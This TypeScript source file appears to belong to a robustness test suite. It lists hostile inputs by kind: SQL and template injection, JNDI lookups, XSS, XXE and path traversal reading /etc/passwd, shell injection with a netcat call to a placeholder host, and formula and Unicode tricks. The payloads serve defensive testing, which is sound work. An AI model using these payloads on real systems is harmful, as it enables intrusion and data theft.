import { full } from '../reliability/rounds';

/** Inputs of attackers for names and texts, by kind of attack. None is a valid domain name. */
export const payloads: Readonly<Record<string, readonly string[]>> = {
  'SQL quotes': [`'`, `"`, `' OR '1'='1`, `") OR ("1"="1`],
  'SQL comments': [`admin'--`, `'; DROP TABLE "orders"; --`, `/**/OR/**/1=1#`],
  'SQL unions': [`' UNION SELECT "ciphertext" FROM "productKeys" --`, `0) UNION ALL SELECT NULL, NULL --`],
  'SQL parameters': ['$1', ':name', '?', '@p0', `$$; SELECT pg_sleep(9); $$`, `\\'; SELECT 1; --`],
  'LIKE wildcards': ['%', '_', '%%%%', '_____', '!%', '\\%', '[a-z]%'],
  'escape characters': ['\\', '\\\\', '!', '\\u0027', '%27%20OR%201%3D1'],
  'full-text operators': ['a* OR NOT b', '"x" NEAR/2 "y"', 'zz:* & !yy', '^zz^'],
  NUL: ['\u0000', 'a\u0000b', '\u0000\u0000'],
  'control characters': ['\u0007', '\u001b[31mred', 'a\u0008b', '\u0085'],
  'line breaks': ['a\r\nSet-Cookie: x=1', 'a\nLevel: info', '\u2028', '\u2029'],
  'lone surrogates': ['\ud800', '\udfff', 'a\ud83d', '\ude00\ud83d'],
  'other alphabets': ['аdmin', 'ＡＤＭＩＮ', 'ⓐⓓⓜⓘⓝ', 'ſelect', 'İstanbul', 'ﷺ'],
  'direction and width': ['\u202egnp.exe?', 'a\u200bb', '\ufeffx', '\u2066x\u2069', 'e\u0301\u0301\u0301\u0301'],
  templates: [`\${7*7}`, '{{7*7}}', '#{7*7}', '<%= 7*7 %>', `\${jndi:ldap://x.example/a}`],
  'JavaScript and JSON': [
    `'];process.exit(1);//`,
    `"},"admin":{"`,
    '__proto__',
    'constructor[prototype]',
    '{"$gt":""}',
  ],
  markup: [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
  ],
  paths: [
    '../../../../etc/passwd',
    '..\\..\\windows',
    '/etc/passwd',
    'file:///etc/passwd',
    '....//....//x',
    '%2e%2e%2f',
  ],
  'shell commands': ['; id', '$(id)', '`id`', '| nc x.example 1', '&& reboot', '-rf'],
  'format strings': ['%s%s%s%n', '%x%x%x', '{0}', '{amount}', '%(x)s'],
  spreadsheets: ['=1+1', '@SUM(A1)', '+1+cmd|x', '-1+1'],
  'regular expressions': ['(a+)+$', `${'a'.repeat(60)}!`, '.*', '[', '(?=x)'],
  numbers: ['-987', '1e999', 'NaN', '9007199254740993', '0x10', '٣'],
  length: ['x'.repeat(5_000), '%'.repeat(201), `${'a '.repeat(2_000)}`, '𝕏'.repeat(141)],
  emptiness: ['', ' ', '\t', '\u00a0', '\u3000'],
};

/** Returns one of each kind, different for each place; all of them if `FAULTS=full`. */
export function payloadsFor(place: number): readonly string[] {
  const kinds = Object.values(payloads);
  return full ? kinds.flat() : kinds.map((texts) => texts[place % texts.length] as string);
}
